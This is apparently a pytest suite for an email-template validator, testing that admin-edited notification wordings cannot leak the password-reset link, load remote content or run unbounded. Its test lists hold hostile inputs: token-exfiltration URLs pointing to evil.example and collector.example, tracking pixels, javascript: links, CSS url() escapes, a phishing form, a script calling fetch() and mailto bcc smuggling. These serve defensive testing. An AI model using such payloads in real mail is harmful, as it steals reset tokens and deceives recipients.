"""What wordings may not do, whoever edits them: take the link elsewhere, load anything, or not end."""

import time

import pytest

from notifications import previews
from notifications.kinds import KINDS
from notifications.wording import Rendered, Wording, render
from notifications.wording_rules import BadWording, House

URL = "https://marquee.example"
LINK = f"{URL}/reset?token=s3cret"
VALUES = {"public_url": URL, "link": LINK, "name": "Minh", "empty": "", "seats": [{"row": "F"}, {"row": "G"}]}


def saved(code: str = "password_reset", **parts: str) -> Rendered:
    """A wording as the admin site takes it."""
    wording = Wording(**{"subject": "s", "text": "t"} | parts)
    return previews.preview(KINDS[code], wording, language="en", public_url=URL, mail_domain="mail.marquee.example")


def sent(**parts: str) -> Rendered:
    """A wording that is there, as messages are sent in it."""
    return render(Wording(**{"subject": "s", "text": "t"} | parts), VALUES, mail_domain="mail.marquee.example")


@pytest.mark.parametrize(
    "parts",
    [
        {"body": '<p><a href="{{ link }}" style="color:#b3202c">Here</a></p>', "text": "Here:\n{{ link }}\nBye"},
        {"body": "<p><a href='{{ public_url }}/help?a=b#row'>Help</a><br><a href='tel:+84 28 12'>or us</a></p>"},
        {"body": '<a href="mailto:desk@marquee.example">us</a> <a href="mailto:a@mail.marquee.example">or us</a>'},
        {"body": '<table role="presentation"><tr><td style="color:rgb(1,2,3)">{{ name }}</td></tr></table>'},
        {"body": "<p>{% if name %}<strong>{{ name }}</strong>{% else %}<em>you</em>{% endif %}</p><hr>"},
        {"body": '<img src="cid:ticket" alt="Ticket" width="240">{# a note #}'},
    ],
)
def test_what_mails_need_is_saved_and_sent(parts: dict[str, str]) -> None:
    assert saved(**parts)
    assert sent(**parts)


@pytest.mark.parametrize(
    "parts",
    [
        {"body": '<img src="http://collector.example/p?t={{ link|urlencode }}" alt="">'},
        {"body": '<a href="https://evil.example/?next={{ link }}">here</a>'},
        {"body": '<a href="{{ link }}@evil.example/">here</a>'},
        {"body": '<a href="{{ link }}&amp;via=evil">here</a>'},
        {"body": '<a href="{{ public_url }}/out?to={{ link }}">here</a>'},
        {"body": '<a href="x" title="{{ link }}">here</a>'},
        {"body": '<img src="cid:ticket" alt="{{ link }}">'},
        {"body": '<p style="color:{{ link }}">x</p>'},
        {"body": "<p>http://evil.example/?{{ link }}</p>"},
        {"body": "<p>{{ link }}</p>"},
        {"text": "http://evil.example/?t={{ link }}"},
        {"text": "{{ link }}.evil.example"},
        {"text": "http://evil.example/{% if name %}{{ link }}{% endif %}"},
        {"text": "{{ link|upper }}"},
        {"text": "{{ name|default:link }}"},
        {"text": "{% with hidden=link %}{{ hidden }}{% endwith %}"},
        {"text": "{% for sign in link %}{{ sign }} {% endfor %}"},
        {"text": "{% if link %}x{% endif %}"},
        {"subject": "{{ link }}"},
    ],
    ids=str,
)
def test_the_link_stands_where_it_leads_the_reader_and_nowhere_else(parts: dict[str, str]) -> None:
    with pytest.raises(BadWording):
        saved(**parts)
    with pytest.raises(BadWording):
        sent(**parts)


ELSEWHERE = [
    '<img src="https://evil.example/pixel.png">',
    "<img src=https://evil.example/pixel.png>",
    '<img src="//evil.example/pixel.png">',
    '<img src="data:image/svg+xml;base64,AAAA">',
    '<img srcset="https://evil.example/a 2x" src="cid:ticket">',
    '<img src="cid:ticket" src="https://evil.example/">',
    '<img/src="https://evil.example/">',
    '<IMG SRC="https://evil.example/">',
    '<img src="cid:ticket" onerror="x">',
    '<table background="https://evil.example/"></table>',
    '<p style="background:url(https://evil.example/)">x</p>',
    '<p style="background:u\\72l(https://evil.example/)">x</p>',
    '<p style="background:&#117;rl(https://evil.example/)">x</p>',
    "<p style=\"background:image-set('https://evil.example/' 1x)\">x</p>",
    '<p style="color:red;/**/">x</p>',
    "<style>@import 'https://evil.example/';</style>",
    '<link rel="stylesheet" href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name="password"></form>',
    "<script>fetch('https://evil.example/')</script>",
    '<svg><use href="https://evil.example/#a"></use></svg>',
    '<video poster="https://evil.example/"></video>',
    '<object data="https://evil.example/"></object>',
    "<!--[if mso]><img src='https://evil.example/'><![endif]-->",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    '<a href="https://evil.example/">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="https://marquee.example.evil.example/">x</a>',
    '<a href="https://marquee.example@evil.example/">x</a>',
    '<a href="https://marquee.example\\@evil.example/">x</a>',
    '<a href="{{ public_url }}{{ name }}">x</a>',
    '<a href="{{ name }}">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="mailto:me@evil.example">x</a>',
    '<a href="mailto:desk@marquee.example?bcc=me@evil.example">x</a>',
    '<a href="mailto:desk@marquee.example,me@evil.example">x</a>',
    '<a href="mailto:desk@example">x</a>',
    '<a href="tel:javascript">x</a>',
    '<a href="/relative">x</a>',
    '<p title="x>" >y</p>',
    "3 < 4",
    "{{ empty|default:'<img src=\"https://evil.example/\">' }}",
    "{{ \"<img src='https://evil.example/'>\" }}",
    "{% with x='<b>' %}{{ x }}{% endwith %}",
]


@pytest.mark.parametrize("body", ELSEWHERE)
def test_a_mail_loads_nothing_and_leads_nowhere_else(body: str) -> None:
    with pytest.raises(BadWording):
        saved("welcome", body=body)
    with pytest.raises(BadWording):
        sent(body=body)


@pytest.mark.parametrize("body", [body for body in ELSEWHERE if "{" not in body])
def test_what_only_one_branch_would_do_is_refused_when_it_is_saved_and_when_it_is_sent(body: str) -> None:
    hidden = f"{{% if failure_code == 'never' %}}{body}{{% endif %}}"
    with pytest.raises(BadWording):
        saved("payment_failed", body=hidden)
    assert sent(body=hidden), "this message does not have it"
    with pytest.raises(BadWording):
        sent(body=hidden.replace("failure_code == 'never'", "name"))


@pytest.mark.parametrize(
    ("parts", "says"),
    [
        ({"text": "a\n{% if name %}b"}, "Unclosed tag on line 2: 'if'"),
        ({"text": "a\n{% for seat in seats %}b"}, "Unclosed tag on line 2: 'for'"),
        ({"text": "a\nb {{ name"}, "Line 2: '{{ name' is never closed"),
        ({"subject": "{{ name }"}, "Line 1: '{{ name }' is never closed"),
        ({"body": "<p>a</p>\n<p><strong>b</p>"}, "Line 2: </p> comes while <strong> of line 2 is open"),
        ({"body": "<p>a</p>\n<p>b"}, "Line 2: <p> is never closed"),
        ({"body": "a</p>"}, "Line 1: </p> closes nothing"),
        ({"body": "a\n<font>b</font>"}, "Line 2: a mail may not have <font>"),
        ({"text": "{{ nobody }}"}, "There is nothing called nobody"),
        ({"text": "{% for a in name %}x{% endfor %}"}, "A loop goes over a list, and name is none."),
    ],
)
def test_a_refused_wording_says_what_is_wrong_and_where(parts: dict[str, str], says: str) -> None:
    with pytest.raises(BadWording) as refused:
        saved("welcome", **parts)
    assert says in str(refused.value)


def test_a_loop_goes_over_a_list() -> None:
    assert sent(text="{% for seat in seats %}{{ seat.row }} {% endfor %}").text == "F G\n"
    with pytest.raises(BadWording, match="list"):
        sent(text="{% for sign in name %}{{ sign }}{% endfor %}")


@pytest.mark.parametrize(
    "source",
    [
        "".join(f"{{% for a{n} in public_url %}}" for n in range(6)) + "x" + "{% endfor %}" * 6,
        "{% for a in many %}{% for b in many %}{{ b }}{% endfor %}{% endfor %}",
        "{% for a in many %}" + "{{ long }}" * 200 + "{% endfor %}",
        "{{ long }}" * 250,
        "{% if name %}" * 140 + "{% endif %}" * 140,
        "{{ name }}" * 301,
        "x" * 20_001,
        "{% if " + "not " * 5000 + "name %}x{% endif %}",
    ],
    ids=["deep", "wide", "long turns", "long", "nested", "many tags", "long source", "long tag"],
)
def test_a_wording_that_would_not_end_soon_is_refused_soon(source: str) -> None:
    values = VALUES | {"many": ["x"] * 400, "long": "x" * 10_000}
    began = time.monotonic()
    with pytest.raises(BadWording):
        render(Wording(text=source), values)
    assert time.monotonic() - began < 2


@pytest.mark.parametrize(
    ("address", "own"),
    [
        ("desk@marquee.example", True),
        ("Desk@Marquee.Example", True),
        ("desk@mail.marquee.example", True),
        ("desk@hcm.marquee.example", True),
        ("desk@notmarquee.example", False),
        ("desk@marquee.example.evil.example", False),
        ("desk@example", False),
        ("@marquee.example", False),
        ("marquee.example", False),
    ],
)
def test_an_address_of_the_house_is_at_its_domain(address: str, own: bool) -> None:
    assert House("https://marquee.example", "mail.marquee.example").owns(address) is own


def test_the_address_where_questions_go_is_the_house_s_wherever_it_is() -> None:
    wording = Wording(subject="s", text="t", body='<a href="mailto:{{ support_email }}">us</a>')
    shown = previews.preview(
        KINDS["welcome"], wording, language="en", public_url=URL, support_email="marquee@helpdesk.example"
    )
    assert '<a href="mailto:marquee@helpdesk.example">us</a>' in shown.html
    assert not House(URL, "mail.marquee.example", "marquee@helpdesk.example").owns("other@helpdesk.example")
